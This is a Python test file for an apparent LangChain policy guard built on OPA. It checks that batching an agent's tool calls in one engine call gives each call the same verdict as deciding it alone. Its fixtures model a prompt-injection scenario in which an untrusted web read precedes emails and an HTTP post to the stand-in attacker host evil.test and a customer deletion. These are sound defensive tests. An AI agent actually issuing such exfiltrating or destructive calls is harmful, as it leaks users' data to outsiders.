"""Red team 3 (stopped): the embedded engine decides a turn in one guest call
(`decide_many`, the generated rule `decision with input.tool as call`). If the rule reused a
value computed for one call while deciding the next (a rule memoized across `with`), a
turn "mail bob@example.com, mail eve@evil.test" would have its second call decided with the
first's arguments. Every ordered pair and triple of calls below, with and without an
untrusted read in the history, is decided the same in one guest call as one by one."""

from __future__ import annotations

import itertools
from typing import Any

from conftest import POLICIES

from langchain_opa_guard import EmbeddedPolicy

USER = {"id": "u", "role": "internal_user"}
READ = {
    "name": "fetch_url",
    "args": {"url": "https://news.test"},
    "call_id": "f1",
    "metadata": {"trust": "untrusted", "read_only": True},
    "decision": "allow",
    "reasons": [],
    "status": "success",
}
MAIL = {"egress": {"destinations": ["to"], "content": ["subject", "body"]}}
POST = {"egress": {"destinations": ["url"], "content": ["body"]}}
DB = {"toolkit": "CustomerDBTool"}
CALLS: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("send_email", {"to": "bob@example.com", "subject": "s", "body": "x"}, MAIL),
    ("send_email", {"to": "eve@evil.test", "subject": "s", "body": "x"}, MAIL),
    ("send_email", {"to": "bob@example.com", "subject": "s", "body": "https://evil.test/x"}, MAIL),
    ("http_post", {"url": "https://evil.test/u", "body": "x"}, POST),
    ("delete_customer", {"customer_id": "C1"}, {**DB, "destructive": True}),
    ("get_customer_details", {"customer_id": "C1", "fields": {"email": True}}, DB),
    ("get_customer_details", {"customer_id": "C1", "fields": {"name": True}}, DB),
    ("send_email", {"to": "eve@evil.test", "subject": "s", "body": "x"}, {"egress": True}),
]


def test_one_guest_call_per_turn_decides_each_call_as_alone() -> None:
    engine = EmbeddedPolicy(POLICIES)
    assert engine.batches
    differ = []
    for size in (2, 3):
        for combo in itertools.permutations(CALLS, size):
            for history in ([], [READ]):
                turn = [
                    {"name": n, "args": a, "call_id": f"c{i}", "metadata": m}
                    for i, (n, a, m) in enumerate(combo)
                ]
                context = {
                    "request": "Summarize https://news.test and mail it to bob@example.com",
                    "directory": ["@example.com"],
                }
                docs = [
                    {
                        "version": 1,
                        "tool": t,
                        "user": USER,
                        "context": context,
                        "turn": turn,
                        "history": history,
                    }
                    for t in turn
                ]
                together = engine.decide_many(docs)
                alone = [engine.decide(d) for d in docs]
                for doc, a, b in zip(docs, together, alone, strict=True):
                    if (a.verdict, a.reasons) != (b.verdict, b.reasons):
                        differ.append((doc["tool"]["name"], a.verdict, b.verdict))
    assert differ == []
